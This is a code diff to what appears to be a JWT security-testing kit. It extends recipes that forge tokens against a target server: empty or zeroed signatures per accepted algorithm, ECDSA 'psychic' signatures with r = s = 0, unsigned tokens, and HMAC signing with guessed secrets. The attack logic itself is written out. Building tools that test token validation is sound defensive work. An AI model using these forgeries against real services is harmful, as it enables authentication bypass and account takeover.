@@ -8,7 +8,17 @@
 import { z } from "zod";
 import { decodeJwt, generateKeyPair, SignJWT } from "jose";
 import type { Credentials } from "./target.ts";
-import { attackerKey, b64url, signByAttacker, signHmac, signRaw, unsigned } from "./_jwt_attacks.ts";
+import {
+  attackerKey,
+  b64url,
+  nullSigned,
+  psychicToken,
+  signByAttacker,
+  signHmac,
+  signRaw,
+  unsigned,
+} from "./_jwt_attacks.ts";
+import { acceptedAlgorithms } from "./_jwt_algs.ts";
 
 /** A forgery recipe (closed union on `kind`). */
 export const RecipeSchema = z.discriminatedUnion("kind", [
@@ -34,7 +44,8 @@ export const RecipeSchema = z.discriminatedUnion("kind", [
     hmac_key: z.string(),
   }).strict(),
   z.object({ kind: z.literal("unsigned_alg"), alg: z.string().min(1) }),
-  z.object({ kind: z.literal("zero_signature") }),
+  /** an empty or zeroed signature, once for every algorithm the server accepts (ForgeOptions.alg) */
+  z.object({ kind: z.literal("null_signature"), form: z.enum(["empty", "zero"]) }).strict(),
   z.object({ kind: z.literal("hs_empty_secret") }),
   z.object({
     kind: z.literal("not_yet_valid"),
@@ -92,9 +103,18 @@ export { b64url };
 export interface ForgeOptions {
   /** the kit listener's base URL, e.g. "http://127.0.0.2:41234" */
   remoteKeyBase?: string;
+  /** the algorithm of a per-algorithm recipe (`null_signature`) @default the target's alg */
+  alg?: string;
 }
 
 let otherKey: Promise<CryptoKey> | undefined;
+
+function notAccepted(what: string, accepted: readonly string[]): Forged {
+  return {
+    ok: false,
+    reason: `the target says the server does not accept ${what} (it lists ${accepted.join(", ")})`,
+  };
+}
 
 function pemToDer(pem: string): Uint8Array {
   const b = atob(pem.replace(/-----[^-]+-----/g, "").replace(/\s+/g, ""));
@@ -252,11 +272,12 @@ export class JwtKit {
       case "unsigned_alg":
         if (claims === undefined) return needClaims;
         return { ok: true, token: unsigned(r.alg, claims) };
-      case "zero_signature": {
+      case "null_signature": {
+        if (claims === undefined) return needClaims;
+        const alg = opts.alg ?? this.#c.alg;
         const parts = (await this.valid()).split(".");
-        if (parts.length !== 3 || parts[2] === undefined) return needClaims;
-        const len = Math.floor((parts[2].length * 3) / 4);
-        return { ok: true, token: `${parts[0]}.${parts[1]}.${b64url(new Uint8Array(len))}` };
+        const own = alg === this.#c.alg && parts.length === 3 ? parts : undefined;
+        return { ok: true, token: nullSigned({ alg, ...kid }, claims, r.form, this.#c.issuerKey, own) };
       }
       case "hs_empty_secret":
         if (claims === undefined) return needClaims;
@@ -273,17 +294,18 @@ export class JwtKit {
         const header = { alg: this.#c.alg, typ: "JWT", ...kid, crit: [r.name], [r.name]: true };
         return { ok: true, token: await signRaw(header, claims, key) };
       }
-      case "hmac_secret":
+      case "hmac_secret": {
         if (claims === undefined) return needClaims;
-        return { ok: true, token: await signHmac(claims, kid, r.secret) };
+        const accepted = acceptedAlgorithms(this.#c);
+        const hs = accepted.find((a) => a.startsWith("HS"));
+        if (hs === undefined) return notAccepted("any HS* algorithm", accepted);
+        return { ok: true, token: await signHmac(claims, { alg: hs, ...kid }, r.secret) };
+      }
       case "psychic": {
         if (claims === undefined) return needClaims;
-        // r = s = 0: raw (JWS, RFC 7518 §3.4) is 2×32 or 2×48 zero bytes; DER is SEQUENCE{INTEGER 0, INTEGER 0}
-        const sig = r.form === "der"
-          ? Uint8Array.of(0x30, 6, 2, 1, 0, 2, 1, 0)
-          : new Uint8Array(r.alg === "ES256" ? 64 : 96);
-        const head = b64url(JSON.stringify({ alg: r.alg, typ: "JWT", ...kid }));
-        return { ok: true, token: `${head}.${b64url(JSON.stringify(claims))}.${b64url(sig)}` };
+        const accepted = acceptedAlgorithms(this.#c);
+        if (!accepted.includes(r.alg)) return notAccepted(r.alg, accepted);
+        return { ok: true, token: psychicToken({ alg: r.alg, ...kid }, claims, r.form) };
       }
       case "literal":
         return { ok: true, token: r.value };
